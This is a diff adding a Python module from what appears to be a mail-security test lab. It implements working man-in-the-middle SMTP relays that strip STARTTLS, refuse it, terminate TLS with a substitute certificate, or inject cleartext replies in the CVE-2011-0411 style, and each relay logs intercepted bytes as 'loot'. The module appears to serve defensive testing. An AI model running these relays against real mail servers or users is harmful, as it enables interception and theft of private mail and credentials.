@@ -1,0 +1,135 @@
+"""Attackers on the path: whoever connects to the MX host's address gets them, and they talk to the honest server.
+
+Each relays the session turn by turn, so that the victim gets the honest server's own words, and changes what his
+attack needs. `loot` is every octet that he saw and could read, encrypted ones included as they are.
+"""
+
+import asyncio
+import ssl
+from abc import ABC, abstractmethod
+from dataclasses import dataclass
+
+from letterlock.lab.certificates import accept_any_context
+from letterlock.lab.wire import Wire, connected
+
+_STARTTLS = b"STARTTLS"
+
+
+@dataclass(frozen=True, slots=True)
+class Session:
+    """Both ends of what the attacker relays."""
+
+    victim: Wire
+    honest: Wire
+
+
+class OnPath(ABC):
+    """A man in the middle between the victim and the honest server at an address and port."""
+
+    def __init__(self, address: str, port: int) -> None:
+        self._honest = (address, port)
+        self.loot = bytearray()
+
+    def holds(self, secret: bytes) -> bool:
+        """Whether the attacker read the secret."""
+        return secret in self.loot
+
+    async def talk(self, victim: Wire) -> None:
+        """One session. Raises ConnectionError when either side goes away."""
+        async with connected(*self._honest) as honest:
+            session = Session(victim, honest)
+            await victim.write(await honest.read_reply())
+            while await self._turn(session) != b"QUIT":
+                pass
+
+    async def _turn(self, session: Session) -> bytes:
+        """Relay one command and its reply; the command's verb."""
+        line = await self._overhear(session.victim)
+        verb = line.split(None, 1)[0].upper() if line.strip() else b""
+        if verb == _STARTTLS:
+            await self._starttls(session)
+            return verb
+        await session.honest.write(line)
+        reply = await session.honest.read_reply()
+        await session.victim.write(self._edit_ehlo(reply) if verb == b"EHLO" else reply)
+        if verb == b"DATA" and reply.startswith(b"354"):
+            await self._content(session)
+        return verb
+
+    @abstractmethod
+    async def _starttls(self, session: Session) -> None:
+        """What becomes of the victim's STARTTLS."""
+
+    def _edit_ehlo(self, reply: bytes) -> bytes:
+        return reply
+
+    async def _overhear(self, victim: Wire) -> bytes:
+        line = await victim.read_line()
+        self.loot += line
+        return line
+
+    async def _content(self, session: Session) -> None:
+        line = b""
+        while line != b".\r\n":
+            line = await self._overhear(session.victim)
+            await session.honest.write(line)
+        await session.victim.write(await session.honest.read_reply())
+
+
+class Stripper(OnPath):
+    """Removes STARTTLS from the reply to EHLO (RFC 3207 section 6)."""
+
+    def _edit_ehlo(self, reply: bytes) -> bytes:
+        lines = [line[4:] for line in reply.splitlines(keepends=True) if line[4:].strip().upper() != _STARTTLS]
+        return b"".join(b"250-" + line for line in lines[:-1]) + b"250 " + lines[-1]
+
+    async def _starttls(self, session: Session) -> None:
+        await session.victim.write(b"502 5.5.1 Command not implemented\r\n")
+
+
+class Refuser(OnPath):
+    """Lets STARTTLS be offered, and answers 454 to the command (RFC 3207 section 4)."""
+
+    async def _starttls(self, session: Session) -> None:
+        await session.victim.write(b"454 4.7.0 TLS not available due to temporary reason\r\n")
+
+
+class Impostor(OnPath):
+    """Ends TLS himself, with a certificate of his own, and speaks TLS to the honest server: nobody notices a thing."""
+
+    def __init__(self, address: str, port: int, context: ssl.SSLContext) -> None:
+        super().__init__(address, port)
+        self._context = context
+
+    async def _starttls(self, session: Session) -> None:
+        await session.honest.write(b"STARTTLS\r\n")
+        await session.victim.write(await session.honest.read_reply())
+        await session.honest.start_tls(accept_any_context(), server=False)
+        await session.victim.start_tls(self._context, server=True)
+
+
+class Injector(OnPath):
+    """Sends a reply to EHLO in clear right behind `220`, then passes on TLS between victim and honest server.
+
+    A victim that keeps the injected octets takes them for the honest server's words inside TLS (CVE-2011-0411 and its
+    kin of 2021).
+    """
+
+    INJECTED = b"250-mx ESMTP\r\n250-PIPELINING\r\n250-XINJECTED\r\n250 8BITMIME\r\n"
+
+    async def _starttls(self, session: Session) -> None:
+        await session.honest.write(b"STARTTLS\r\n")
+        await session.victim.write(await session.honest.read_reply() + self.INJECTED)
+        upstream = asyncio.create_task(self._pump(session.victim, session.honest))
+        try:
+            await self._pump(session.honest, session.victim)
+        finally:
+            upstream.cancel()
+            await asyncio.gather(upstream, return_exceptions=True)
+
+    async def _pump(self, source: Wire, target: Wire) -> None:
+        """Pass octets on until the source ends. Raises Ended."""
+        while True:
+            data = await source.read_some()
+            self.loot += data
+            await target.write(data)
